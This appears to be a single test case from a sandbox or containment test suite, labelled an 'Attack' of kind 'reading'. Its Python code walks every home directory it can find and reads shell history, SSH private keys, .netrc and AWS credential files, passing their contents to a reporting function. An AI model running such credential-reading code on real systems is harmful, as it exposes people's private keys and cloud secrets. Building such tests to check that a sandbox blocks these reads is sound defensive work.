# Attack: reads SSH keys and the shell's history in every home it can think of.
# Kind: reading

import glob
import os

homes = [HOST["root"] + "/home", "/root", os.path.expanduser("~"), *glob.glob("/home/*")]
for home in homes:
    for name in (".bash_history", ".ssh/id_ed25519", ".ssh/id_rsa", ".netrc", ".aws/credentials"):
        try:
            through(f"read {home}/{name}: {open(f'{home}/{name}').read()[:200]}")
        except OSError:
            pass
